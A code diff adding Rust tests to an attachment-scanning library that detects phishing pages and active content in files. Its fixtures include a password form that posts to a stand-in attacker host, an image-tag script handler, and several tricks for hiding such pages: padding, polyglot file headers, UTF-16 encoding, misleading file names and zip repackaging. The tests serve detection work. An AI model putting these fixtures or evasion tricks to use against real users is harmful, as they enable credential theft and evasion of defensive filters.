@@ -1,6 +1,9 @@
 //! Pages and drawings.
 
-use crate::{has, innocent, links, texts};
+use chatward_attach::{Inspector, Kind, Sent, Why};
+
+use crate::made;
+use crate::{has, innocent, links, looked, texts, whys};
 
 #[test]
 fn pages_are_told_by_what_they_do() {
@@ -47,4 +50,68 @@ fn drawings_are_told_by_what_they_do() {
         .collect();
     has("a.svg", &wide, "file.page-script");
     innocent("b.svg", b"<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0\"/></svg>");
+}
+
+/// A page that asks for a password.
+const ASKS: &str =
+    "<html><body><form action=\"https://evil.example/\"><input type=password></form></body></html>";
+
+#[test]
+fn no_padding_and_no_missing_head_hides_a_page() {
+    let bare = "<div><h1>Sign in</h1><input type=password></div><img src=x onerror=\"go()\">";
+    let late = format!("words {}{bare}", " words".repeat(3_000));
+    let wide: Vec<u8> = bare.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    for bytes in [
+        format!("{}{ASKS}", " ".repeat(8_300)).into_bytes(),
+        format!("<!-- {} -->{ASKS}", "x".repeat(9_000)).into_bytes(),
+        format!("<!-- \0 -->{ASKS}").into_bytes(),
+        format!("<!-->{ASKS}").into_bytes(),
+        bare.as_bytes().to_vec(),
+        late.into_bytes(),
+        [b"GIF89a", bare.as_bytes()].concat(),
+        [b"{\\rtf1 x}", bare.as_bytes()].concat(),
+        [b"#!/bin/sh\n", bare.as_bytes()].concat(),
+        wide,
+        b"<svg><style/><a><foreignObject><input type=password></foreignObject></a></svg>".to_vec(),
+    ] {
+        for name in ["a.html", "a.HTM", "a.xhtml", "a.shtml"] {
+            has(name, &bytes, "file.page-asks");
+        }
+        let declared = Sent { name: "a", media_type: Some("text/HTML; charset=utf-8"), bytes: &bytes };
+        assert!(Inspector::default().inspect(&declared, &|_| None).has("file.page-asks"));
+        // The same file under another name, in front of it.
+        let zip = made::zip(&[("a.bin", &bytes), ("a.html", &bytes)]);
+        has("a.zip", &zip, "file.page-asks");
+    }
+    // Under a name that promises nothing, or something else.
+    for name in ["a", "a.unheard", "photo.png", "report.doc"] {
+        has(name, bare.as_bytes(), "file.page-asks");
+    }
+    has("photo.png", bare.as_bytes(), "file.active-mismatch");
+    has("a.md", b"Hello <img src=x onerror=go()> there", "file.page-script");
+    has("a.txt", bare.as_bytes(), "file.page-asks");
+    assert!(innocent("a.html", b"<p>Hello <b>there</b>").kind() == Kind::Html);
+}
+
+#[test]
+fn a_text_that_names_a_tag_is_no_page() {
+    for (name, text) in [
+        ("note.txt", "Put <input type=password> into a <form action=x>: what does it do?"),
+        ("", "What does <script> do?"),
+        (
+            "README.md",
+            "<p align=center><img src=a.png></p>\n\n```html\n<script src=x></script>\n```\nand `<input type=password>`.",
+        ),
+        ("a.json", "{\"page\": \"<input type=password onclick=x>\"}"),
+        ("a.csv", "name,note\nAnna,<input type=password>\n"),
+        ("code", "if (a < b) { Vec<u> x; }"),
+    ] {
+        innocent(name, text.as_bytes());
+    }
+}
+
+#[test]
+fn more_attributes_than_are_read_are_told() {
+    let page = format!("<p {}>", "a=1 ".repeat(200));
+    assert_eq!(whys(&looked("a.html", page.as_bytes())), [Why::TooMany]);
 }
